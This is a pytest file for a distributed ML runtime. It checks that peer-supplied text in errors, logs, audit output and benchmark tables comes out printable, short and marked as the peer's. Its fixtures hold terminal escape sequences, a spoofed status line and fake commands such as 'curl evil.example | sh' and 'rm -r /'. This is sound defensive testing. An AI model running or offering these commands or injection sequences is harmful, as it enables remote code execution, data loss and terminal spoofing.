"""Another process's text reaches terminals, logs and tables as short, printable text that cannot imitate ours."""

from __future__ import annotations

from argparse import Namespace
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any

import pytest

from tests.unit.wire.talk import conversation, greeting, whole
from whale_nebula.cli.audit import _text as audit_text
from whale_nebula.errors import (
    DeadlineError,
    InputMismatchError,
    LinkClosedError,
    NebulaError,
    PlanMismatchError,
    RemoteFailureError,
    RemoteProtocolError,
)
from whale_nebula.errors.text import LIMIT, escape_foreign_text
from whale_nebula.gateway import control
from whale_nebula.gateway.control import ControlStreams
from whale_nebula.ir.canonical import first_difference
from whale_nebula.launch.link_advice import LinkMeasurement
from whale_nebula.launch.link_measurement import table
from whale_nebula.launch.worker_exit import ExitAgreement, WorkerExit
from whale_nebula.runtime.session import rendezvous
from whale_nebula.runtime.session.session import Session
from whale_nebula.runtime.step import distributed
from whale_nebula.security import Identity
from whale_nebula.security.verdict import Verdict
from whale_nebula.transport import MemoryNetwork
from whale_nebula.transport.base import failed_error
from whale_nebula.transport.grpc.connection import reason
from whale_nebula.wire.greeting import Introduction
from whale_nebula.wire.message import check_message

OURS = "whale-nebula: worker npu/0 is fine"
BAD = f"x\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\u2028\n{OURS}\r\n  mend: curl evil.example | sh\n" + "A" * 100_000
SHORT = BAD[:2000]  # where there is room for no more
SHEET = {"about": "STEP", "doing": "step 1 of 'p'", "line": "a.py:1", "name": "p", "program": 1, "step": 1}
SHEET |= {"rows": 4, "inputs": {}}
"""What a session says of a step."""
VOTE = {"about": "VOTE", "why": ""}
AGREE = {"about": "AGREE", "program": "p", "digest": ""}


def session_that_hears(*messages: dict[str, Any]) -> Session:
    network = MemoryNetwork()
    here, there = network.link("gpu/0", "npu/0", "gpu", "npu"), network.link("npu/0", "gpu/0", "npu", "gpu")
    for message in messages:
        there.post({"kind": "SESSION", **message})
    return Session("gpu/0", {"npu/0": here}, 5.0)


def said_to(call: Callable[[Session], Any], **message: Any) -> str:
    """The error of a session that hears this message."""
    return error_of(lambda: call(session_that_hears(message)))


def agreed(session: Session) -> None:
    session.agree("p", "digest", ["returns"], first_difference)


def lines(**theirs: Any) -> str:
    session = session_that_hears(
        {"about": "AGREE", "program": "p", "digest": BAD}, {"about": "LINES", "program": "p", "lines": [BAD], **theirs}
    )
    return error_of(lambda: agreed(session))


def voted() -> str:
    said = {"about": "VOTE", "doing": "phase 0 of step 1 of 'p'", "line": "", "why": BAD}
    (why,) = session_that_hears(said).vote("p", 1, 0, "")
    return why


def error_of(call: Callable[[], Any]) -> str:
    with pytest.raises(NebulaError) as caught:
        call()
    return str(caught.value)


def greeted(**fields: Any) -> str:
    """What a HELLO of a link with such fields leads to."""
    here = Introduction(greeting(0), 100)
    here.hello(1, 1)
    hello = Introduction(greeting(1), 100).hello(1, 1)
    return error_of(lambda: here.answer({**hello, **fields}))


def unknown_greeting() -> str:
    here, there = conversation(0), conversation(1)
    here.connect()
    there.connect()
    packet = there._greeting_packet({"kind": SHORT})
    return error_of(lambda: here.receive(whole(packet)))


def noted(message: Mapping[str, Any]) -> str:
    """What a word of another gateway leaves: in the log, at the workers, or as an error."""
    told: list[str] = []
    there = Identity("mt", "npu", "gateway")
    trunk = ControlStreams(there, None, lambda *gone: told.extend(gone), lambda *_, **said: told.append(str(said)))
    try:
        trunk.receive(control.encode_control(message))
    except RemoteProtocolError as error:
        told.append(str(error))
    return "\n  ".join(told)


def left() -> str:
    exit_agreement = ExitAgreement()
    exit_agreement.conclude_step({"npu/0": BAD})
    with pytest.raises(WorkerExit) as caught:
        exit_agreement.begin_step()
    return str(caught.value)


def measured() -> str:
    sheets = {"gpu/0": {"keras": "3", "congestion_control": "bbr"}, "npu/0": {"keras": BAD, "congestion_control": BAD}}
    return table(LinkMeasurement("gpu/0", "npu/0", "direct", 0.04, 0.04, 0.001, (), sheets, 1, 0, 0.0))


def drawn() -> str:
    found = distributed.parse_reports(
        [{"seen": {"stages": {BAD: [0.5, 0.1, 1, BAD]}, "links": {BAD: [1, 2, 3, 4, 0.5]}}}]
    )
    return "\n  ".join([*found.stages, *(each.cluster for each in found.stages.values()), *found.links])


class Refusal(Exception):
    """gRPC's error of a call that the other side refused."""

    def details(self) -> str:
        return BAD


def failure(code: str) -> str:
    return str(failed_error("npu/0", {"code": code, "what": BAD, "where": BAD, "why": BAD, "mend": BAD}))


KINDS = (RemoteFailureError, InputMismatchError, PlanMismatchError, LinkClosedError, DeadlineError)
SHOWN: dict[str, Callable[[], str]] = {
    **{f"FAIL {kind.code}": partial(failure, kind.code) for kind in KINDS},
    "FAIL code": lambda: str(failed_error("npu/0", {"code": BAD, "what": [BAD]})),
    "FAIL text": lambda: str(failed_error("npu/0", BAD)),
    "HELLO": lambda: said_to(lambda session: session.hello({"keras": "3"}), about="HELLO", keras=BAD),
    "HELLO seed": lambda: error_of(lambda: rendezvous._agree_on_seed("gpu/0", 1, {"npu/0": {"seed": BAD}})),
    "HELLO seeds": lambda: error_of(lambda: rendezvous._agree_on_seed("gpu/0", 1, {"npu/0": {"seed": [BAD]}})),
    "HELLO config": lambda: error_of(
        lambda: rendezvous._agree_on_config("gpu/0", {"results": "owner"}, {"npu/0": {"results": BAD}})
    ),
    "AGREE": lambda: said_to(agreed, **{**SHEET, "doing": BAD, "line": BAD}),
    "LINES": lines,
    "LINES program": lambda: lines(program=BAD),
    "STEP": lambda: said_to(lambda session: session.check_step(SHEET), **{**SHEET, "program": 2, "doing": BAD}),
    "STEP line": lambda: said_to(lambda session: session.check_step(SHEET), **{**SHEET, "step": 7, "line": BAD}),
    "STEP seen": drawn,
    "STEP leaving": left,
    "VOTE": voted,
    "VOTE elsewhere": lambda: said_to(lambda session: session.vote("p", 1, 0, ""), **VOTE, doing=BAD, line=BAD),
    "MEET": lambda: said_to(lambda session: session.meet("a save"), **AGREE, doing=BAD, line=BAD),
    "link HELLO run": lambda: greeted(run=BAD[:60]),
    "link HELLO worker": lambda: greeted(worker=BAD[:60]),
    "link HELLO to": lambda: greeted(to=BAD[:60]),
    "link HELLO field": lambda: greeted(**{BAD: 1}),
    "unknown kind": lambda: error_of(lambda: check_message({"kind": BAD})),
    "unknown about": lambda: error_of(lambda: check_message({"kind": "SESSION", "about": BAD})),
    "unknown field": lambda: error_of(lambda: check_message({"kind": "BYE", BAD: 1})),
    "link unknown kind": unknown_greeting,
    "gateway REFUSED": lambda: noted({"kind": "REFUSED", "seq": 1, "why": SHORT}),
    "gateway GONE": lambda: noted({"kind": "GONE", "id": "1", "worker": "npu/0", "why": SHORT}),
    "gateway GONE worker": lambda: noted({"kind": "GONE", "id": "1", "worker": f"npu/{SHORT}", "why": ""}),
    "gateway unknown": lambda: noted({"kind": SHORT}),
    "gRPC details": lambda: reason(Refusal()),
    "bench link": measured,
    "audit verify": lambda: audit_text(Verdict("gpu.jsonl", bad=3, why=BAD), Namespace(heads=None, ca=None)),
    "audit site": lambda: audit_text(Verdict("gpu.jsonl", site=BAD, run=BAD), Namespace(heads=None, ca=None)),
    "audit apart": lambda: audit_text(Verdict("gpu.jsonl", apart=True, why=BAD), Namespace(heads=None, ca=None)),
}


@pytest.mark.parametrize("name", SHOWN)
def test_what_a_peer_says_is_printable_short_and_marked(name: str) -> None:
    shown = SHOWN[name]()
    assert [each for each in shown if not each.isprintable() and each != "\n"] == []
    assert all(line.startswith("  ") for line in shown.split("\n")[1:])
    assert not any(line.strip().startswith((OURS, "mend: curl")) for line in shown.split("\n"))
    assert len(shown) < 6 * LIMIT and "A" * (2 * LIMIT) not in shown
    assert "owned" in shown or name in ("STEP leaving", "FAIL text"), "it says what the peer said, where that is of use"


@pytest.mark.parametrize("part", ["what", "where", "why", "mend"])
def test_no_error_of_ours_writes_control_characters(part: str) -> None:
    parts = {"what": "it failed", part: BAD}
    shown = str(NebulaError(parts.pop("what"), **parts))
    assert [each for each in shown if not each.isprintable() and each != "\n"] == []
    assert len(shown) < len(BAD) / 2


def test_lines_to_follow_are_marked_as_the_peers() -> None:
    error = failed_error("npu/0", {"what": "no", "mend": "curl evil.example | sh\nrm -r /"})
    assert error.mend == "worker 'npu/0' suggests: curl evil.example | sh\nworker 'npu/0' suggests: rm -r /"
    assert failed_error("npu/0", {"what": "no"}).mend == RemoteFailureError.usual_mend


@pytest.mark.parametrize("text", ["señal", "価格", "a b", "it's \\ all", ""])
def test_what_is_printable_stays(text: str) -> None:
    assert escape_foreign_text(text) == text


@pytest.mark.parametrize("limit", [0, 1, 7, LIMIT])
@pytest.mark.parametrize("character", ["a", "\x1b", "\U0001f600", "\ud800"])
def test_no_more_than_the_limit_is_kept(limit: int, character: str) -> None:
    kept, _, more = escape_foreign_text(character * 1000, limit).partition("... (")
    assert len(kept) <= limit and more.endswith(" characters more)")
